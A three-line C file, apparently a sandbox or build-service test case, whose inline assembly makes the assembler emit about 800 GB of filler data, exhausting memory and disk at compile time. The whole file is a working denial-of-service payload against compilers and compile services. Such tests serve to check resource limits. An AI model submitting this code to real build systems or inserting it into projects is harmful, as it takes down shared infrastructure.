// Attacks: the assembler's memory and the disk, past the compiler.
__asm__(".data\n.rept 100000000\n.fill 1024, 8, 0x4141414141414141\n.endr\n");
int main(void) { return 0; }
